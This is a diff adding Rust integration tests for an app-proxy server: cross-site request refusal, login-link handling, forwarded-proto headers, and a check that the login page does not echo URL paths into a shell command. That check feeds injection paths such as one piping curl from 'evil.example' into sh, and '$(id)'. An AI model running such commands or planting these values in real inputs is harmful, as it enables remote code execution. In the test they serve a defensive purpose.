@@ -114,8 +114,49 @@ async fn pages_sent_by_another_site_are_refused_where_they_could_do_harm() {
     assert_eq!(post.status, StatusCode::FORBIDDEN);
     assert_eq!(standin::seen(station.folder()).unwrap(), []);
     // A link on another site may lead here.
-    let headers = [("sec-fetch-site", "cross-site"), ("sec-fetch-mode", "navigate")];
-    client.call(Method::GET, path, &headers, Bytes::new()).await.unwrap().expect(200).unwrap();
+    let link = [
+        ("sec-fetch-site", "cross-site"),
+        ("sec-fetch-mode", "navigate"),
+        ("sec-fetch-dest", "document"),
+    ];
+    client.call(Method::GET, path, &link, Bytes::new()).await.unwrap().expect(200).unwrap();
+}
+
+#[tokio::test]
+async fn a_page_of_another_port_cannot_load_an_app_or_use_up_a_link() {
+    let station = Station::with_app(App::StandIn).await.unwrap();
+    let mut client = station.login().await.unwrap();
+    client.origin = None;
+    let image = [
+        ("sec-fetch-site", "same-site"),
+        ("sec-fetch-mode", "no-cors"),
+        ("sec-fetch-dest", "image"),
+    ];
+    let path = "/apps/jupyterlab/head";
+    client.call(Method::GET, path, &image, Bytes::new()).await.unwrap().expect(403).unwrap();
+    assert_eq!(standin::seen(station.folder()).unwrap(), []);
+    let link = station.login_path("/").await.unwrap();
+    let other = station.client().await.unwrap();
+    other.call(Method::GET, &link, &image, Bytes::new()).await.unwrap().expect(403).unwrap();
+    let opened = [
+        ("sec-fetch-site", "cross-site"),
+        ("sec-fetch-mode", "navigate"),
+        ("sec-fetch-dest", "document"),
+    ];
+    other.call(Method::GET, &link, &opened, Bytes::new()).await.unwrap().expect(303).unwrap();
+}
+
+#[tokio::test]
+async fn the_login_page_puts_no_text_of_a_link_into_the_command() {
+    let station = Station::with_app(App::StandIn).await.unwrap();
+    let client = station.client().await.unwrap();
+    for path in ["/apps/x;curl$IFS-evil.example|sh/", "/apps/nothing/", "/apps/$(id)/lab"] {
+        let page = client.page(path).await.unwrap().expect(401).unwrap();
+        let command = "<pre class=\"command\">stationctl login</pre>";
+        assert!(page.text().contains(command), "{path}: {}", page.text());
+    }
+    let page = client.page("/apps/jupyterlab/").await.unwrap().expect(401).unwrap();
+    assert!(page.text().contains("stationctl login --app jupyterlab"), "{}", page.text());
 }
 
 #[tokio::test]
@@ -184,4 +225,25 @@ async fn with_tls_the_cookie_is_bound_to_the_host_and_websockets_pass() {
     assert_eq!(seen[0].header("x-forwarded-proto"), Some("https"));
     assert_eq!(seen.len(), 2);
     assert!(station.log().contains("fingerprint"), "{}", station.log());
+}
+
+#[tokio::test]
+async fn an_app_behind_someone_elses_tls_hears_the_scheme_of_the_public_url() {
+    let more = "[listen]\npublic_url = \"https://vm7.example\"\n";
+    let mut station = Station::prepare(App::StandIn, more).unwrap();
+    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = free.local_addr().unwrap().to_string();
+    drop(free);
+    station.environment.push(("STATIOND_LISTEN".to_owned(), address.clone()));
+    station.launch().await.unwrap();
+    station.app_in(station_proto::app::AppPhase::Ready).await.unwrap();
+    let mut client = Client::new(&format!("http://{address}")).unwrap();
+    station.log_in(&client).await.unwrap();
+    client.get("/apps/jupyterlab/head").await.unwrap().expect(200).unwrap();
+    client.host = "vm7.example".to_owned();
+    client.get("/apps/jupyterlab/head").await.unwrap().expect(200).unwrap();
+    let seen = standin::seen(station.folder()).unwrap();
+    assert_eq!(seen[0].header("x-forwarded-proto"), Some("http"), "by way of localhost");
+    assert_eq!(seen[1].header("x-forwarded-proto"), Some("https"));
+    assert_eq!(seen[1].header("x-forwarded-port"), Some("443"));
 }
